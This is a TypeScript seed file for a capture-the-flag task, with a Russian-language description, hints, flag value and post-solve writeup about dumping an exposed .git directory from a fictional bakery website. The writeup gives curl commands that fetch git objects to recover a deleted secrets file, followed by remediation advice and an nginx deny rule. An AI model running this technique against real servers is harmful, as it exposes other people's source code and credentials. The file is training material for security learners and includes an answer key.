import { md } from '../../markdown'
import type { TaskSeed } from '../../types'

export const gitLeftovers: TaskSeed = {
  id: 111,
  title: 'Забытый .git',
  difficulty: 'easy',
  points: 100,
  important: false,
  status: 'active',
  description: md`
    Сайт пекарни «Ржаной бочонок» выкладывают командой \`git pull\` прямо в корень веб-сервера. Вместе с
    кондитерскими изделиями наружу смотрит каталог \`.git\`, а в нём — вся история проекта.

    ### Что сделать

    1. Убедитесь, что каталог доступен: запросите \`/.git/HEAD\`.
    2. Скачайте хранилище. Просмотр каталога выключен, но имена файлов предсказуемы:

       - \`.git/HEAD\`, \`.git/index\`, \`.git/logs/HEAD\`;
       - \`.git/refs/heads/…\`;
       - объекты вида \`.git/objects/ab/cdef…\`, где \`abcdef…\` — хеш.

    3. Восстановите рабочую копию и посмотрите, что из неё когда-то удалили.

    Флаг лежит в файле, которого **нет в последнем коммите**.
  `,
  flags: [{ id: 1111, prefix: 'flag', stem: 'history_never_forgets' }],
  hints: [
    {
      id: 1111,
      cost: 0,
      text: md`Начните с \`.git/logs/HEAD\`: там перечислены хеши всех коммитов и их сообщения.`,
    },
    {
      id: 1112,
      cost: 10,
      text: md`
        Объекты сжаты zlib. Положите их в пустое хранилище (\`git init\`) с теми же именами, и команды
        \`git cat-file -p\` и \`git show\` прочитают их сами.
      `,
    },
  ],
  attachments: [],
  writeup: {
    rule: 'after_solve',
    content: md`
      Последовательность короткая:

      \`\`\`bash
      git init copy && cd copy
      curl -s http://bakery.example:8080/.git/logs/HEAD
      # хеш предпоследнего коммита → объект
      hash=… ; dir=.git/objects/\${hash:0:2}
      mkdir -p "$dir"
      curl -s -o "$dir/\${hash:2}" "http://bakery.example:8080/$dir/\${hash:2}"
      git cat-file -p "$hash"
      \`\`\`

      Дальше скачиваем дерево коммита и файл \`deploy.env\`, который удалили с сообщением «убрал
      лишнее».

      Удаление файла новым коммитом не стирает его из истории. Секрет, попавший в хранилище, считается
      раскрытым: **его надо сменить**, а уже потом чистить историю. И закрыть каталог на веб-сервере:

      \`\`\`nginx
      location ~ /\.git {
          return 404;
      }
      \`\`\`
    `,
  },
  lab: {
    expectedSeconds: 15,
    lifetimeSeconds: 3600,
    extendWindowSeconds: 900,
    endpoints: [{ label: 'Сайт пекарни', protocol: 'http', port: 8080 }],
    hasTerminal: false,
  },
  competencies: [1, 9, 10],
  gitlabId: 4111,
}
